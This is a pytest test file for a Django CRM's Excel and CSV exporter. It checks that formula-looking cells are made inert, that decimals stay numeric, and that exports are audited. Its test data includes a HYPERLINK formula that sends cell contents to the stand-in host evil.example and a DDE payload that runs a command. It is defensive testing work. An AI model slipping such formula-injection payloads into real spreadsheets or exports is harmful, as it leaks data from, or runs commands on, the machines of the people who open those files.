"""The exporter (ocrm.lists.exports): one guard, one XLSX writer, one CSV writer, used by every
file the system writes for Excel. A cell a spreadsheet would run (= + - @, a tab, a CR) arrives
inert (in XLSX a quote-prefixed string cell, in CSV behind an apostrophe); numbers and decimals
arrive as numbers. The downloads of the upload pipelines are tested
beside their areas (tests/sysadmin/imports, tests/customers/maintenance, tests/customers/ecif/feeds)."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.conf import settings as django_settings
from django.urls import reverse

from ocrm.audit.models import AuditLog
from ocrm.imports.specs import Column, Spec, text
from ocrm.imports.workbook import template_xlsx
from ocrm.lists import background as export_jobs
from ocrm.lists import exports
from ocrm.lists.models import ExportFile
from sysadmin.parameters import services as parameters
from tests.factories import make_customer

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def read_cells(data):
    """[[openpyxl cell]] of the first sheet (cells keep their type and number format)."""
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()]


def assert_inert(cell, payload=PAYLOAD):
    """A string cell (never a formula) holding the text as it is, with Excel's quote prefix that
    keeps it text when edited, and no visible apostrophe (issue 12 #12)."""
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", payload, True), (cell.data_type, cell.value)


@pytest.mark.parametrize("payload", [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"])
def test_the_guard_makes_a_formula_inert(payload):
    assert exports.cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-5", "+8613800138000", "-0.25", "12", "王伟", "a=b", "", 7, 2.5, True, None])
def test_the_guard_leaves_plain_values_alone(value):
    assert exports.cell(value) == (value if not isinstance(value, str) else value)


def test_xlsx_keeps_numbers_and_decimals_as_numbers_and_text_inert():
    handle, count = exports.write_xlsx(
        [["name", "amount", "rate", "count"], [PAYLOAD, Decimal("1234.50"), Decimal("0.0425"), 3], ["-5", Decimal("7"), None, 0]]
    )
    rows = read_cells(handle.read())
    assert count == 2 and [c.value for c in rows[0]] == ["name", "amount", "rate", "count"] and rows[0][0].font.b
    name, amount, rate, number = rows[1]
    assert_inert(name)
    assert (amount.data_type, amount.value, amount.number_format) == ("n", 1234.5, "0.00")
    assert (rate.data_type, rate.value, rate.number_format) == ("n", 0.0425, "0.0000")
    assert (number.data_type, number.value) == ("n", 3)
    assert [c.value for c in rows[2]] == ["-5", 7, None, 0]


def test_csv_is_streamed_with_a_bom_and_the_same_guard():
    lines = list(exports.csv_stream([["name", "amount"], [PAYLOAD, Decimal("1234.50")], ["王伟", None]]))
    assert lines[0] == "\ufeff"
    rows = list(csv.reader(io.StringIO("".join(lines[1:]))))
    assert rows == [["name", "amount"], ["'" + PAYLOAD, "1234.50"], ["王伟", ""]]


def test_a_template_workbook_is_written_by_the_same_writer():
    class NoteSpec(Spec):
        natural_key_help = "code"
        columns = (Column("code", "代码", "code", text(10), True, help=PAYLOAD), Column("amount", "金额", "amount", text(10)))

    handle, size = template_xlsx(NoteSpec(), "notes")
    workbook = openpyxl.load_workbook(io.BytesIO(handle.read()))
    assert size > 0 and workbook.sheetnames[0] == "notes"
    header = workbook.worksheets[0]
    assert [c.value for c in header[1]] == ["code", "amount"] and header.max_row == 1  # nothing but the header
    assert header.column_dimensions["A"].number_format == "@"  # codes such as 001 stay text
    notes = [list(row) for row in workbook.worksheets[1].iter_rows()]
    assert_inert(notes[1][3])


# --- list exports --------------------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)


@pytest.fixture
def risky(org):
    """A customer whose name is a formula and whose AUM has cents."""
    return make_customer("C-F1", org.a_sh, org.manager, name_local=PAYLOAD, aum=Decimal("1234.50"))


def customer_row(data):
    rows = read_cells(data)
    header = [c.value for c in rows[0]]
    return {header[i]: cell for i, cell in enumerate(rows[1])}


@pytest.mark.django_db
def test_a_list_export_arrives_inert_with_decimals_as_numbers(client, org, risky):
    client.force_login(org.supervisor)
    client.cookies[django_settings.LANGUAGE_COOKIE_NAME] = "en"
    response = client.get(reverse("customers:list") + "?export=xlsx")
    row = customer_row(b"".join(response.streaming_content))
    assert_inert(row["name"])
    aum = row["AUM (base currency)"]
    assert (aum.data_type, aum.value, aum.number_format) == ("n", 1234.5, "0.00")
    entry = AuditLog.objects.get(action=AuditLog.Action.EXPORT, actor=org.supervisor)
    assert entry.object_repr.endswith("(1)") and entry.detail["rows"] == 1 and entry.detail["pii"] is False


@pytest.mark.django_db
def test_a_background_export_arrives_inert_with_decimals_as_numbers(client, org, risky, media):
    parameters.set_value("export.sync_max_rows", 0)
    user = org.supervisor
    user.language = "en"
    user.save(update_fields=["language"])
    client.force_login(user)
    assert client.get(reverse("customers:list") + "?export=xlsx").status_code == 302
    export = export_jobs.run_export(ExportFile.objects.get(owner=user).pk)
    assert export.status == ExportFile.Status.DONE and export.row_count == 1
    row = customer_row(export.file.read())
    assert_inert(row["name"])
    assert (row["AUM (base currency)"].data_type, row["AUM (base currency)"].value) == ("n", 1234.5)
    written = AuditLog.objects.get(action=AuditLog.Action.EXPORT, actor=user, detail__background=True)
    assert written.detail["rows"] == 1 and written.detail["export_file"] == export.pk
